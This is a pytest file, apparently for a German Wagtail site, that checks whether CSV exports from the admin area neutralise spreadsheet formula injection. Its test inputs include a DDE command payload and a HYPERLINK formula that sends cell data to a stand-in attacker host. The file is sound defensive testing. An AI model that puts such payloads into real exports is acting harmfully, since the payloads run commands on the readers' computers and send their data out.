"""CSV exports from the admin write spreadsheet formulas as text (OWASP "CSV injection"): a
cell starting with = + - @ tab or CR gets a leading apostrophe, headings included; other
cells and XLSX exports stay as they were."""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from tests.factories import ContactPageFactory, StandardPageFactory
from tests.test_contact import valid_data

pytestmark = pytest.mark.django_db

COMMAND = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://angreifer.example/?d="&A1;"Hier klicken")'


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(content_of(response).decode("utf-8"))))


@pytest.fixture
def contact_page(home):
    page = ContactPageFactory(parent=home)
    field = page.form_fields.get(clean_name="anliegen")
    field.label = "=Anliegen"  # an editor's label is a heading of the export
    field.save()
    return page


def test_form_submissions_csv_neutralises_formulas(client, admin_client_de, contact_page):
    posted = client.post(
        contact_page.url,
        valid_data(
            name=COMMAND,
            organisation_oder_kommune="+49 30 1234567",
            anliegen="@SUMME(1+1)",
            nachricht="-2+3",
        ),
    )
    assert posted.status_code == 200
    assert FormSubmission.objects.filter(page=contact_page).count() == 1

    rows = csv_rows(admin_client_de.get(f"/admin/forms/submissions/{contact_page.pk}/?export=csv"))
    heading, row = rows[0], rows[1]
    assert "'=Anliegen" in heading
    assert "Name" in heading  # ordinary headings unchanged
    values = dict(zip(heading, row, strict=True))
    assert values["Name"] == "'" + COMMAND
    assert values["Organisation oder Kommune"] == "'+49 30 1234567"
    assert values["'=Anliegen"] == "'@SUMME(1+1)"
    assert values["Nachricht"] == "'-2+3"
    assert values["E-Mail-Adresse"] == "erika@example.org"  # ordinary values unchanged


def test_report_csv_neutralises_page_titles_xlsx_keeps_them(admin_client_de, home, superuser):
    titles = [LINK, "\t=1+1", "\r=1+1", "Ganz normal"]
    for n, title in enumerate(titles):
        page = StandardPageFactory(parent=home, title=title, slug=f"seite-{n}")
        page.locked = True
        page.locked_by = superuser
        page.save()

    rows = csv_rows(admin_client_de.get("/admin/reports/locked/?export=csv"))
    exported = {row[0] for row in rows[1:]}
    assert "'" + LINK in exported
    assert "'\t=1+1" in exported
    assert "'\r=1+1" in exported
    assert "Ganz normal" in exported
    assert LINK not in exported

    # XLSX already stores such values as text: no apostrophe there.
    response = admin_client_de.get("/admin/reports/locked/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(content_of(response))).active
    cells = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2, max_col=1)}
    assert LINK in cells
    assert cells[LINK].data_type == "s"  # text, not a formula
